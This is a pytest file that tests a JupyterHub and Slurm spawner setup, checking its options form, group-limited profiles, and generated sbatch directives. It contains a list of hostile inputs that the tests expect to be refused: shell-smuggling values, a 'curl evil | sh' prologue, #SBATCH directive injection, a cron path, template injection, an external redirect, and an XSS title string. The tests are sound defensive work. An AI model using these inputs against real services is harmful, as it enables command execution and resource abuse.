"""JupyterHub, jupyterhub_moss and batchspawner judge a hub of the target ``apptainer`` with jupyterhub_moss's form."""

from __future__ import annotations

import asyncio
import html
import json
import re
import shutil
import subprocess
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from lego_compile.ir.model import Deployment, Limits
from tests.conformance.apptainer_hub import (
    directives,
    launched,
    load,
    need,
    refused,
    script,
    spawner,
    started,
)
from tests.strategies import example
from tests.targets.apptainer.samples import everything, hub, install, projected, slurm

need("batchspawner", "jupyterhub_moss")

pytestmark = pytest.mark.filterwarnings("ignore::DeprecationWarning")

DEPLOYMENT = projected(example())
PATH = "/opt/lego/grenoble/moss/{}/bin/"
LISTED = ("interactive", "gpu")


@pytest.fixture(scope="module")
def root(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The example, with Slurm and jupyterhub_moss."""
    return installed(tmp_path_factory.mktemp("hub"), DEPLOYMENT)


def installed(folder: Path, deployment: Deployment, **changes: Any) -> Path:
    """A centre, with Slurm and jupyterhub_moss."""
    chosen = {**everything(), "site_binds": [], "hub": hub(spawner="moss"), **changes}
    return install(folder, deployment, chosen)


@pytest.fixture(scope="module")
def app(root: Path) -> Any:
    """JupyterHub of it."""
    return load(root)


def page(made: Any) -> tuple[dict[str, Any], str]:
    """What the program of the form is told, as a browser would read it, and the whole form."""
    text = asyncio.run(made.get_options_form())
    (quoted,) = re.findall(r"JSON\.parse\('(.*)'\);", text)
    # A quoted text of JavaScript, in the element of a script, which ends where it says </script>.
    assert "'" not in quoted
    assert "</" not in quoted
    assert "<!--" not in quoted
    read = re.sub(r"\\(?!u)(.)", r"\1", quoted)
    read = re.sub(r"\\u([0-9a-f]{4})", lambda match: chr(int(match[1], 16)), read)
    return json.loads(read), text


def posted(**changes: str) -> dict[str, list[str]]:
    """What a browser posts of the form when nothing is changed but this (jupyterhub_moss/form/option_form.js@10.1)."""
    fields = {
        "partition_simple": "interactive", "nprocs_simple": "1", "ngpus_simple": "0", "environment_simple": "ocean",
        "jupyterlab_simple": "on", "runtime_simple": "1", "partition": "interactive", "nprocs": "1", "mem": "",
        "ngpus": "0", "runtime": "1:00:00", "default_url": "/lab", "environment_id": "ocean",
        "environment_path": "", "environment_modules": "", "reservation": "", "options": "",
    }  # fmt: skip
    return {name: [value] for name, value in {**fields, **changes}.items()}


def chosen(made: Any, **changes: str) -> Any:
    """Options of a form, as JupyterHub has them read."""
    return asyncio.run(made.options_from_form(posted(**changes)))


def test_jupyterhub_knows_every_setting(app: Any) -> None:
    """Each class and trait that the configuration names exists, and jupyterhub_moss takes our partitions."""
    from jupyterhub.app import JupyterHub

    spawner_class = app.config.JupyterHub.spawner_class
    classes = {"JupyterHub": JupyterHub, "LegoMOSlurmSpawner": spawner_class}
    assert classes.keys() == app.config.keys()
    for name, settings in app.config.items():
        assert set() == settings.keys() - set(classes[name].class_trait_names(config=True))
    made = spawner(app)
    assert 600 == made.start_timeout
    assert {"interactive", "gpu"} == made.partitions.keys()
    gpu = made.partitions["gpu"]
    assert ("gpu:a100:{}", 2, 9, 7200) == tuple(
        gpu[each] for each in ("gpu", "max_ngpus", "max_nprocs", "max_runtime")
    )
    assert ["deep"] == list(gpu["jupyter_environments"])
    deep = gpu["jupyter_environments"]["deep"]
    assert (DEPLOYMENT.profiles[2].title, PATH.format("deep"), False) == tuple(
        deep[each] for each in ("description", "path", "add_to_path")
    )


def test_the_form_is_that_of_moss(app: Any) -> None:
    """With one environment for each profile, in its partition; partitions of others are not on it."""
    told, text = page(spawner(app))
    assert "interactive" == told["default_partition"]
    environments = {name: list(each["jupyter_environments"]) for name, each in told["partitions"].items()}
    assert {"interactive": ["ocean", "field"], "gpu": ["deep"]} == environments
    assert "secret" not in text
    assert f"{DEPLOYMENT.profiles[0].title}, {DEPLOYMENT.profiles[1].title}" in text


@pytest.mark.parametrize(
    ("name", "groups", "environments"),
    [
        ("bob", (), {"interactive": ["ocean"]}),
        ("bob", ("staff",), {"interactive": ["ocean"]}),
        ("bob", ("m1",), {"interactive": ["ocean"], "gpu": ["deep"]}),
    ],
    ids=["nobody", "listed no more", "group of the authenticator"],
)
def test_a_profile_of_a_group_is_for_its_members(
    app: Any, name: str, groups: tuple[str, ...], environments: dict[str, list[str]]
) -> None:
    """Others neither see it, nor its partition, nor can start it."""
    told, _ = page(spawner(app, name, groups))
    assert environments == {
        each: list(info["jupyter_environments"]) for each, info in told["partitions"].items()
    }
    mine = [slug for slugs in environments.values() for slug in slugs]
    for profile in DEPLOYMENT.profiles:
        if profile.slug not in mine:
            assert 400 == refused(spawner(app, name, groups), {"environment_id": profile.slug})
            made = spawner(app, name, groups)
            made.user_options = chosen(made, environment_id=profile.slug)
            assert 400 == refused(made, made.user_options)


def test_what_the_form_sends_starts(app: Any) -> None:
    """With what was chosen, the profile's account, and the programs where jupyterhub_moss looks for them."""
    made = spawner(app)
    made.user_options = chosen(made, nprocs="2", mem="3G", runtime="2:30:00", default_url="/tree")
    text = started(made)
    found = directives(text)
    expected = {"partition": "interactive", "cpus-per-task": "2", "mem": "3145728K", "time": "02:30:00"}
    assert {
        **expected,
        "account": "gaia",
        "qos": "short",
        "reservation": "school2026",
    }.items() <= found.items()
    assert "gres" not in found
    assert "/home/ada/.jupyterhub-%j.log" == found["output"]
    path = PATH.format("ocean")
    assert ["exec", f"{path}batchspawner-singleuser", f"{path}jupyterhub-singleuser"] == launched(text)[:3]
    environment = next(env for command, _, env in made.run if "sbatch" in command)
    assert ("/tree", str(3 * 2**30), "2.0") == tuple(
        environment[name] for name in ("JUPYTERHUB_DEFAULT_URL", "MEM_LIMIT", "CPU_LIMIT")
    )
    assert set(environment) >= set(found["export"].split(",")) >= {"MEM_LIMIT", "CPU_LIMIT"}


def test_what_is_unsaid_is_the_profile_s(app: Any) -> None:
    """A start without a form, or with an empty one, has all that the profile has."""
    found = directives(script(app, {}))
    expected = {"partition": "interactive", "cpus-per-task": "4", "mem": "8388608K", "time": "08:00:00"}
    assert expected.items() <= found.items()
    found = directives(script(app, {"environment_id": "deep"}))
    expected = {"partition": "gpu", "cpus-per-task": "9", "mem": "33554432K", "time": "02:00:00"}
    assert {**expected, "gres": "gpu:a100:2"}.items() <= found.items()
    text = script(app, {"partition": "gpu"})
    assert PATH.format("deep") in text
    one = directives(script(app, {"environment_id": "deep", "ngpus": 1, "runtime": "1"}))
    assert ("gpu:a100:1", "01:00:00") == (one["gres"], one["time"])
    assert "gres" not in directives(script(app, {"environment_id": "deep", "ngpus": 0}))


def test_no_choice_outlives_a_session(app: Any) -> None:
    """A spawner is used again: nothing of the choice before is left."""
    made = spawner(app)
    made.user_options = {"environment_id": "deep", "nprocs": 1, "memory": "1G", "default_url": "/tree"}
    started(made)
    made.run.clear()
    made.user_options = {}
    assert script(app, {}) == started(made)
    assert "" == made.default_url


ATTACKS: dict[str, Any] = {
    "an environment of one's own": {"environment_path": "/tmp/evil.sif;id"},
    "modules": {"environment_modules": "x; id"},
    "an environment that is not there": {"environment_id": "custom", "environment_path": "/tmp/evil"},
    "options of sbatch": {"options": "--account=other --wrap=id"},
    "a reservation": {"reservation": "other"},
    "where the log is": {"output": "/etc/cron.d/x"},
    "GPUs by their name": {"gres": "gpu:h100:8"},
    "a prologue": {"prologue": "curl evil | sh"},
    "the command": {"cmd": "id"},
    "the launcher": {"launcher": "/tmp/evil"},
    "an account": {"account": "other"},
    "another partition": {"partition": "secret"},
    "the partition of another profile": {"environment_id": "ocean", "partition": "gpu"},
    "a partition that is a directive": {"partition": "gpu\n#SBATCH --account=x"},
    "more cores": {"nprocs": 5},
    "no cores": {"nprocs": 0},
    "cores that are none": {"nprocs": "many"},
    "more memory": {"memory": "9G"},
    "all memory of a node": {"memory": "0"},
    "memory without end": {"memory": "9" * 5000},
    "memory that is a directive": {"memory": "1G\n#SBATCH --account=x"},
    "a GPU": {"ngpus": 1},
    "more GPUs": {"environment_id": "deep", "ngpus": 3},
    "more time": {"runtime": "8:00:01"},
    "more days": {"runtime": "1-0"},
    "no limit of time": {"runtime": "infinite"},
    "zero, which is none": {"runtime": "0:0:0"},
    "time that is none": {"runtime": "1; id"},
    "time without end": {"runtime": "9" * 5000},
    "a template": {"default_url": "/{username.__class__}"},
    "a template as folder": {"root_dir": "{0}"},
    "a control character": {"root_dir": "/x\0"},
    "a page elsewhere": {"default_url": "https://evil.example.org"},
    "types": {"environment_id": ["ocean"]},
    "a list": ["ocean"],
    "a text": "ocean",
    "nothing": None,
    "a number as name": {1: "ocean"},
}
"""Options of the REST API."""


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS)
def test_an_attack_is_refused(app: Any, attack: Any) -> None:
    """Whatever a request says that is not a user's to say is answered with 400, and starts nothing."""
    assert 400 == refused(spawner(app), attack)


@pytest.mark.parametrize(
    "fields",
    [
        {"options": "--account=other"},
        {"reservation": "other"},
        {"environment_id": "custom", "environment_path": "/tmp/evil.sif;id"},
        {"environment_id": "", "environment_path": "/tmp/evil.sif;id"},
        {"environment_id": "ocean", "environment_path": "/tmp/evil.sif;id"},
        {"partition": "gpu"},
        {"mem": "0"},
        {"gres": "gpu:h100:8", "options": " --exclusive"},
    ],
)
def test_a_forged_form_is_refused(app: Any, fields: dict[str, str]) -> None:
    """What the page of jupyterhub_moss lets people type is no way round."""
    made = spawner(app)
    options = chosen(made, **fields)
    made.run.clear()
    assert 400 == refused(made, options)


def test_what_moss_derives_is_not_stored(app: Any) -> None:
    """Nothing of a form is kept that would be refused at the next start, or is the centre's to change until then."""
    made = spawner(app)
    options = chosen(made, output="true", gres="gpu:h100:8", prologue="id")
    assert {"environment_id", "partition", "nprocs", "ngpus", "runtime", "default_url"} == options.keys()
    assert json.loads(json.dumps(options)) == options
    made.user_options = options
    started(made)


def test_titles_are_text(tmp_path: Path) -> None:
    """What people call a profile is shown, and breaks neither page nor program: jupyterhub_moss escapes nothing."""
    evil = 'l\'océan "x" \\ </script><script>alert(1)</script> `${1}` {{ 7*7 }} & co'
    deployment = replace(DEPLOYMENT, profiles=(replace(DEPLOYMENT.profiles[0], title=evil),))
    app = load(installed(tmp_path, deployment))
    told, text = page(spawner(app))
    environment = told["partitions"]["interactive"]["jupyter_environments"]["ocean"]
    said = "l'océan ^x^ | [/script][script]alert(1)[/script] `${1}` {{ 7*7 }} & co"
    said = said.translate(str.maketrans("'^|[]`", "\u2019\u201d\u2216\u2039\u203a\u2018"))
    assert said == environment["description"] == told["partitions"]["interactive"]["description"]
    assert "<script>alert" not in text
    assert said in html.unescape(text)


def test_without_limits_slurm_says_what_there_is(tmp_path: Path) -> None:
    """A profile without limits has those of its partition, which jupyterhub_moss asks Slurm for."""
    free = replace(DEPLOYMENT.profiles[0], limits=Limits())
    app = load(
        installed(
            tmp_path, replace(DEPLOYMENT, profiles=(free,)), slurm=slurm(profiles={}, time="1-00:00:00")
        )
    )
    told, _ = page(spawner(app))
    assert (35, 86400) == tuple(
        told["partitions"]["interactive"][each] for each in ("max_nprocs", "max_runtime")
    )
    found = directives(script(app, {"nprocs": 30, "memory": "100G", "runtime": "1-0"}))
    assert ("30", "104857600K", "24:00:00") == tuple(found[key] for key in ("cpus-per-task", "mem", "time"))
    assert not {"cpus-per-task", "mem"} & directives(script(app, {})).keys()
    assert 400 == refused(spawner(app), {"nprocs": 10**400})


def test_a_partition_that_slurm_does_not_have(tmp_path: Path) -> None:
    """Is named, with a reason that people can act upon."""
    from tornado.web import HTTPError

    app = load(installed(tmp_path, DEPLOYMENT, slurm=slurm(partition="gone", profiles={})))
    with pytest.raises(HTTPError) as caught:
        page(spawner(app))
    assert 503 == caught.value.status_code
    assert "'gone'" in caught.value.jupyterhub_message


def stand_in(folder: Path, deployment: Deployment) -> Path:
    """A centre whose launcher says how it was called."""
    root = installed(folder, deployment)
    (root / "bin" / "lego-launch").write_text('#!/bin/sh\nprintf "%s\\n" "$@"\n')
    return root


@pytest.mark.parametrize("slug", ["ocean", "moss", "bin"])
@pytest.mark.parametrize("shell", ["sh", "bash", "busybox"])
def test_the_programs_of_a_profile(tmp_path: Path, slug: str, shell: str) -> None:
    """They start the profile of their own directory, wherever it is installed, and whatever it is called."""
    if shutil.which(shell) is None:
        pytest.skip(f"no {shell}")
    profile = replace(DEPLOYMENT.profiles[0], slug=slug)
    root = stand_in(tmp_path / "with moss" / "moss", replace(DEPLOYMENT, profiles=(profile,)))
    folder = root / "moss" / slug / "bin"
    assert 0o755 == (folder / "batchspawner-singleuser").stat().st_mode & 0o777
    interpreter = [shutil.which(shell), *(["sh"] if shell == "busybox" else [])]

    def said(program: str, *words: str) -> list[str]:
        command = [*interpreter, str(folder / program), *words]
        done = subprocess.run(command, capture_output=True, text=True, check=True, cwd="/")
        return done.stdout.splitlines()

    words = [str(folder / "jupyterhub-singleuser"), "--x=1 2", "*"]
    expected = ["-c", slug, "--", "batchspawner-singleuser", "jupyterhub-singleuser", "--x=1 2", "*"]
    assert expected == said("batchspawner-singleuser", *words)
    prepared = [
        "python3",
        "-c",
        "a 'text'",
        "serve",
        "batchspawner-singleuser",
        "jupyterhub-singleuser",
        "--x=1 2",
    ]
    assert ["-c", slug, "--", *prepared] == said("batchspawner-singleuser", *prepared)
    assert ["-c", slug, "--", "jupyterhub-singleuser", "--x"] == said("jupyterhub-singleuser", "--x")
    assert ["-c", slug, "--", "batchspawner-singleuser"] == said("batchspawner-singleuser")


def test_a_hub_of_the_site_runs_them_too(root: Path, app: Any, tmp_path: Path) -> None:
    """jupyterhub_moss as it is, with our partitions: a hub that exists already needs no spawner of ours."""
    from jupyterhub_moss import MOSlurmSpawner
    from traitlets.config import Config

    from tests.conformance.apptainer_hub import recorded

    here = stand_in(tmp_path / "root", DEPLOYMENT)
    (here / "jupyterhub" / "jupyterhub_config.d").mkdir()
    made = spawner(app)
    partitions = json.loads(json.dumps(made.partitions).replace("/opt/lego/grenoble", str(here)))
    stock = MOSlurmSpawner(
        config=Config({"MOSlurmSpawner": {"partitions": partitions, "req_srun": ""}}),
        user=made.user, hub=made.hub, authenticator=None, api_token="x", db=made.db, public_url="",
        oauth_client_id="jupyterhub-user", orm_spawner=made.orm_spawner,
    )  # fmt: skip
    run: list[Any] = []
    recorded(stock, run)
    stock.user_options = asyncio.run(stock.options_from_form(posted()))
    asyncio.run(stock.start())
    text = next(text for command, text, _ in run if "sbatch" in command)
    done = subprocess.run(["bash", "-s"], input=text, capture_output=True, text=True, check=True)
    expected = ["-c", "ocean", "--", "batchspawner-singleuser", "jupyterhub-singleuser"]
    assert expected == done.stdout.splitlines()[:5]
